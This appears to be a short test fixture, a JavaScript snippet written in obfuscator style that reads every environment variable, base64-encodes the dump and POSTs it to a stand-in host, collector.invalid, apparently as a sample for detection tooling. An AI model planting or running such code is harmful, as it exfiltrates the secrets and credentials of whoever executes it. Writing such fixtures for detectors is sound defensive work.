// Inert fixture: the environment, serialised and base64-encoded, written to a request, with every member access in
// string-subscript form as a JavaScript obfuscator emits it (host is .invalid).
const http = require('http');
const querystring = require('querystring');
const dump = JSON['stringify'](process['env']);
const encoded = Buffer['from'](dump)['toString']('base64');
const body = querystring['stringify']({ 'd': encoded });
const req = http['request']({
    'hostname': 'collector.invalid',
    'port': 0x50,
    'path': '/l/',
    'method': 'POST',
    'headers': { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer['byteLength'](body) }
});
req['write'](body);
req['end']();
